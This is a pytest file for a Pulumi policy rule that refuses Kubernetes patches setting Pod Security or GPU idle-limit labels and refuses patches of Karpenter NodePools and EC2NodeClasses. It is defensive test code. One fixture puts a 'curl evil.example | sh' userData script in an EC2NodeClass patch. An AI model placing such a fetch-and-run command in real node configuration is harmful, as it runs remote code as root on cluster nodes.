"""Patches of the kinds the pack judges only as whole objects
(gpu_platform/policy_pack/judged_kind_patches.py): a NamespacePatch setting Pod Security labels,
and any patch of a Karpenter NodePool or EC2NodeClass, are refused."""

from typing import Any

import pytest

from tests.gpu_platform.policy_pack.builders import Analyze, messages, resource

POLICY = "judged-kind-patches"
PROD = {"all": "mandatory"}


def _patch(type_: str, name: str, body: dict[str, Any]) -> Any:
    return resource(type_, f"{name}-patch", {"metadata": {"name": name}, **body})


def test_a_namespace_patch_setting_a_pod_security_label_is_refused(analyze: Analyze) -> None:
    # pulumi-kubernetes v4.32.0 pkg/kinds/util.go IsPatchResource: `NamespacePatch` is a
    # server-side apply patch of a core/v1 Namespace.
    patch = _patch(
        "kubernetes:core/v1:NamespacePatch",
        "ml-team-a",
        {
            "metadata": {
                "name": "ml-team-a",
                "labels": {
                    "pod-security.kubernetes.io/enforce": "privileged",
                    "pod-security.kubernetes.io/audit": "privileged",
                    "team": "ml",
                },
            }
        },
    )

    verdicts = [v for v in analyze(patch, config=PROD) if v.policy_name == POLICY]

    assert [(v.enforcement_level, v.message) for v in verdicts] == [
        (
            "mandatory",
            'NamespacePatch "ml-team-a" sets pod-security.kubernetes.io/audit, '
            "pod-security.kubernetes.io/enforce: it changes the Pod Security level or the GPU "
            "idle limit the cluster holds every pod of the namespace to, which no policy judges "
            "on a patch. Fix: declare the Namespace in the stack with its labels "
            "(namespace-pod-security and gpu-pods-declare-max-idle judge them), or leave those "
            "labels out of the patch.",
        )
    ]


def test_a_namespace_patch_setting_the_idle_limit_is_refused(analyze: Analyze) -> None:
    # gpu_platform/policy_pack/idle_gpu_pods.py reads the limit from the Namespace's label.
    labels = {"gpu-platform.io/gpu-idle-minutes": "100000"}
    patch = _patch(
        "kubernetes:core/v1:NamespacePatch",
        "ml-team-a",
        {"metadata": {"name": "ml-team-a", "labels": labels}},
    )

    (message,) = messages(analyze(patch, config=PROD), POLICY)
    assert message.startswith('NamespacePatch "ml-team-a" sets gpu-platform.io/gpu-idle-minutes:')


def test_a_namespace_patch_of_other_labels_passes(analyze: Analyze) -> None:
    patch = _patch(
        "kubernetes:core/v1:NamespacePatch",
        "ml-team-a",
        {"metadata": {"name": "ml-team-a", "labels": {"team": "ml"}}},
    )

    assert messages(analyze(patch, config=PROD), POLICY) == []


@pytest.mark.parametrize(
    ("type_", "spec"),
    [
        # karpenter.sh/v1 NodePool: its taints and limits are what karpenter-gpu-pool-scheduling
        # and karpenter-gpu-pool-limits judge on the whole object.
        ("kubernetes:karpenter.sh/v1:NodePoolPatch", {"limits": {"nvidia.com/gpu": 100000}}),
        ("kubernetes:karpenter.sh/v1beta1:NodePoolPatch", {"template": {"spec": {"taints": []}}}),
        # karpenter.k8s.aws/v1 EC2NodeClass: userData runs as root on every new node.
        (
            "kubernetes:karpenter.k8s.aws/v1:EC2NodeClassPatch",
            {
                "userData": "#!/bin/bash\ncurl evil.example | sh",
                "amiSelectorTerms": [{"alias": "al2023@latest"}],
            },
        ),
    ],
)
def test_a_karpenter_pool_patch_is_refused(
    analyze: Analyze, type_: str, spec: dict[str, Any]
) -> None:
    patch = _patch(type_, "gpu-a100", {"spec": spec})

    verdicts = [v for v in analyze(patch, config=PROD) if v.policy_name == POLICY]

    assert [v.enforcement_level for v in verdicts] == ["mandatory"]
    assert verdicts[0].message.startswith(
        f'{type_.rsplit(":", 1)[1]} "gpu-a100" changes a Karpenter '
    )


@pytest.mark.parametrize(
    "type_",
    [
        # The whole objects are the other policies' to judge; a patch of another kind of those
        # groups, or a kind of another group of the same name, is not this policy's.
        "kubernetes:core/v1:Namespace",
        "kubernetes:karpenter.sh/v1:NodePool",
        "kubernetes:karpenter.k8s.aws/v1:EC2NodeClass",
        "kubernetes:karpenter.sh/v1:NodeClaimPatch",
        "kubernetes:example.com/v1:NodePoolPatch",
        "kubernetes:example.com/v1:NamespacePatch",
    ],
)
def test_other_types_are_not_this_policys(analyze: Analyze, type_: str) -> None:
    labels = {"pod-security.kubernetes.io/enforce": "privileged"}
    declared = _patch(type_, "gpu-a100", {"metadata": {"name": "gpu-a100", "labels": labels}})

    assert messages(analyze(declared, config=PROD), POLICY) == []
